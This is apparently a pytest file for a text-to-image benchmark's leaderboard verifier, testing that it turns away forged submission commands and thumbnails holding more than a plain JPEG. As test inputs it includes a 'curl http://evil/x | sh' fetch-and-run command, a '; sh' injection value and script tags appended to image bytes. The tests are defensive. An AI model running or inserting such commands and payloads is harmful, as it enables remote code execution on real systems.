"""What a submission states of how it was made."""

from __future__ import annotations

import io
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from PIL import Image

from t2ibench.errors import T2IBenchError
from t2ibench.leaderboard.stated import settings_of
from t2ibench.leaderboard.submission import pack
from t2ibench.leaderboard.thumbs import is_bare
from t2ibench.leaderboard.verify import verify
from t2ibench.pipeline.progress import SilentReporter
from t2ibench.results.files import read_results
from t2ibench.settings import RunSettings
from tests.leaderboard.forging import edit, seal, set_in


@pytest.fixture
def submission(packed: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(packed, tmp_path / packed.name))


def refusal(folder: Path) -> str:
    verdict = verify(folder)
    assert verdict.level == "refused"
    return "\n".join(verdict.problems)


SETTINGS = (
    RunSettings(model="toyland", tasks=("all",)),
    RunSettings(
        model="./a b", tasks=("x", "tag:y"), model_args={"all.gender.female": "0.5", "a": "b,c"},
        encoder=("clip:./x",), judge=("openai:m",), judge_args={"base_url": "http://h/v1"},
        images_per_prompt=7, guided_images_per_prompt=2, times=1.5, n_permutations=200_000,
        control_encoder="none", dtype="float32",
    ),
    RunSettings(model="-odd=", tasks=("all",), limit=2, seed=3, level=0.9),
)  # fmt: skip


@pytest.mark.parametrize("settings", SETTINGS)
def test_a_command_is_read_back(settings: RunSettings) -> None:
    assert settings_of(settings.command()) == settings


@pytest.mark.parametrize(
    "command",
    [
        [],
        ["curl", "http://evil/x", "|", "sh"],
        ["t2ibench", "run", "--model"],
        ["t2ibench", "run", "--model", "toyland", "--tasks", "all", ";", "sh"],
        ["t2ibench", "run", "--tasks", "all", "--model", "toyland"],
        ["t2ibench", "run", "--model", "toyland", "--tasks", "all", "--seed", "0"],
        ["t2ibench", "run", "--model", "toyland", "--tasks", "all", "--times", "lots"],
        ["t2ibench", "run", "--model", "toyland", "--tasks", "all", "--include-path", "/tmp"],
        ["t2ibench", "run", "--model", "a", "--model", "toyland", "--tasks", "all"],
        ["t2ibench", "run", "--model", "x" * 30_000],
    ],
)
def test_a_command_that_t2ibench_does_not_write(command: list[str]) -> None:
    with pytest.raises(T2IBenchError, match="its command is not one that t2ibench writes"):
        settings_of(command)


def word(option: str, text: str | None) -> Callable[[Any], None]:
    """A change of one option of the command; None takes it out."""

    def change(results: Any) -> None:
        command = results["command"]
        at = command.index(option)
        command[at : at + 2] = [] if text is None else [option, text]

    return change


def drop_task(results: Any) -> None:
    del results["tasks"]["weat_8_science_arts"]


STATED: dict[str, tuple[str, Callable[[Any], Any], str]] = {
    "somebody's shell": (
        "results.json", set_in("command", value=["curl", "http://evil/x", "|", "sh"]),
        "not one that t2ibench writes: curl http://evil/x | sh",
    ),
    "another model in the command": (
        "results.json", word("--model", "toy"), "names another model, or other arguments",
    ),
    "other numbers in the command": (
        "results.json", word("--images-per-prompt", "50"), "says images_per_prompt = 50",
    ),
    "no numbers in the command": (
        "results.json", word("--images-per-prompt", None), "says images_per_prompt = None",
    ),
    "another encoder in the command": (
        "results.json", word("--encoder", "toy-clip"), "names other encoders",
    ),
    "no judge in the command": ("results.json", word("--judge", None), "names other judges"),
    "more tasks in the command": (
        "results.json", word("--tasks", "all"), "tasks that it has no results of",
    ),
    "fewer tasks in the command": (
        "results.json", word("--tasks", "occupations_t2iat"), "its command does not name",
    ),
    "a task left out": ("results.json", drop_task, "such as weat_8_science_arts"),
    "another revision": (
        "submission.json", set_in("revision", value="world 3"), "different revisions",
    ),
    "another version of t2ibench": (
        "results.json", set_in("t2ibench", value="9.9"), "different versions of t2ibench",
    ),
    "a long environment": (
        "results.json", set_in("environment", "x", value="y" * 9000), "environment is too long",
    ),
    "a newer schema": ("results.json", set_in("schema", value=99), "reads 1 to 2"),
    "a folder of images": (
        "submission.json", set_in("model", value="folder:/tmp"), "is not a model",
    ),
    "a seed": (
        "results.json",
        lambda data: [
            task["settings"].update(seed=7) for task in data["tasks"].values()
        ] and None,
        "it was made with --seed 7; the leaderboard takes the default, 0",
    ),
}  # fmt: skip


@pytest.mark.parametrize("kind", STATED)
def test_what_is_stated_and_can_be_told_is_compared(kind: str, submission: Path) -> None:
    name, change, message = STATED[kind]
    edit(submission, name, change)
    assert message in refusal(submission)


def test_the_command_is_the_one_of_the_run(packed: Path) -> None:
    results = read_results(packed)
    settings = settings_of(results.command)
    assert settings.model == "toyland" and settings.images_per_prompt == 3
    assert settings.command() == results.command


def jpeg(**options: Any) -> bytes:
    buffer = io.BytesIO()
    pixels = Image.effect_noise((64, 48), 80).convert("RGB")
    pixels.save(buffer, format="JPEG", quality=80, **options)
    return buffer.getvalue()


def test_a_plain_jpeg_holds_its_image_alone() -> None:
    assert is_bare(jpeg()) and is_bare(jpeg(progressive=True)) and is_bare(jpeg(optimize=True))


@pytest.mark.parametrize(
    "data",
    [
        jpeg() + b"<script>alert(1)</script>",
        jpeg() + b"<script>alert(1)</script>\xff\xd9",
        jpeg(comment=b"<script>"),
        jpeg(exif=b"Exif\0\0<script>"),
        jpeg()[:-2],
        b"",
        b"\xff\xd8",
        b"\xff\xd8\xff\xda",
        b"\xff\xd8\xff\xd9\xff\xd9",
        b"GIF89a" + jpeg(),
    ],
)  # fmt: skip
def test_a_jpeg_that_holds_more(data: bytes) -> None:
    assert not is_bare(data)


@pytest.mark.slow
def test_thumbnails_are_plain_small_pictures(run: Path, tmp_path: Path) -> None:
    folder = pack(run, tmp_path, SilentReporter(), thumbnails=1)
    assert verify(folder).level == "recomputed"
    path, *_ = sorted((folder / "thumbs").iterdir())
    honest = path.read_bytes()
    path.write_bytes(honest + b"<script>")
    seal(folder)
    assert f"thumbs/{path.name} holds more than an image" in refusal(folder)
    large = io.BytesIO()
    Image.new("RGB", (97, 10), (9, 99, 9)).save(large, format="JPEG")
    for data in (large.getvalue(), b"no picture", jpeg() * 30):
        path.write_bytes(data)
        seal(folder)
        assert f"thumbs/{path.name} is not a plain JPEG of at most 96 pixels" in refusal(folder)
    path.write_bytes(honest)
    path.rename(path.with_name("0" * 64 + ".jpg"))
    seal(folder)
    assert "does not belong to any image" in refusal(folder)
